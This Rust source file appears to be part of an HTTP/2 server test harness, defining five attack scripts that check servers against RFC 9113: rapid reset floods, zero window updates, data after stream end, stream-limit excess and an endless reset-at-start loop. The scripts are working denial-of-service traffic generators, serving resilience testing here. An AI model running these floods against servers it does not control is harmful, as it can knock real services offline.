//! R: resets, and streams at a time.

use std::time::Duration;

use unwired_core::http2::Reason;

use crate::attack::Play::Script;
use crate::attack::{Attack, Halt};
use crate::hostile::Hostile;
use crate::seen::Fate;
use crate::wire;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new("R1", "rapid reset: streams opened and reset", &[Script(rapid_reset)]),
    Attack::new("R2", "frames that force resets", &[Script(windows_of_nothing), Script(data_after_the_end)]),
    Attack::new("R3", "more streams than allowed", &[Script(stream_excess)]),
    Attack::new("R4", "whole calls reset as they start", &[Script(reset_at_the_start)]),
    Attack::new("R5", "frames after the end of the connection", &[Script(after_the_end)]),
];

fn rapid_reset(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood_streams(|stream| [wire::call(stream), wire::rst(stream, Reason::CANCEL)].concat())?)
}

fn windows_of_nothing(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    Ok(peer.flood_streams(|stream| [wire::call(stream), wire::window_update(stream, 0)].concat())?)
}

fn data_after_the_end(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let head = wire::block(wire::REQUEST);
    Ok(peer.flood_streams(|stream| {
        [wire::headers(stream, &head, true), wire::data(stream, b"", true)].concat()
    })?)
}

/// Streams that one connection opens at most: the machine has to survive a server without a limit.
const MOST_STREAMS: u64 = 20_000;
/// Streams between two looks at what has become of them.
const WAVE: u64 = 500;

fn stream_excess(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    let allowed = peer.seen().most_streams.map_or(u64::MAX, u64::from);
    for opened in (WAVE..=MOST_STREAMS).step_by(WAVE as usize) {
        let wave: Vec<u8> = (0..WAVE).flat_map(|_| wire::call(peer.stream())).collect();
        peer.send(&wave)?;
        // Refusals come with their time.
        let within = |ended: u64| opened - ended.min(opened) <= allowed;
        if peer.wait(Duration::from_secs(2), |seen| within(seen.ended()).then_some(()))?.is_none() {
            let open = opened - peer.seen().ended();
            return Err(Halt::Broken(format!("{open} streams open, {allowed} allowed (RFC 9113 §5.1.2)")));
        }
    }
    Ok(peer.hold()?)
}

fn reset_at_the_start(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    loop {
        let stream = peer.stream();
        let call = wire::greeting(stream, "you");
        peer.send_in_window(&call)?;
        peer.send(&wire::rst(stream, Reason::CANCEL))?;
    }
}

fn after_the_end(peer: &mut Hostile) -> Result<(), Halt> {
    peer.greet(&[])?;
    // A PING of seven octets ends the connection (RFC 9113 §6.7).
    let mut octets = wire::frame(wire::PING, 0, 0, &[0; 7]);
    for _ in 0..100 {
        let stream = peer.stream();
        octets.extend(wire::greeting(stream, "you"));
        octets.extend(wire::rst(stream, Reason::CANCEL));
        octets.extend(wire::settings(&[(wire::INITIAL_WINDOW_SIZE, 0)]));
    }
    let mut sent = peer.send(&octets);
    while sent.is_ok() {
        sent = peer.send(&wire::ping([0; 8]));
    }
    match peer.seen().tally.get(&Fate::OK) {
        Some(served) => Err(Halt::Broken(format!("serves {served} calls after its end (RFC 9113 §5.4.1)"))),
        None => Ok(()),
    }
}
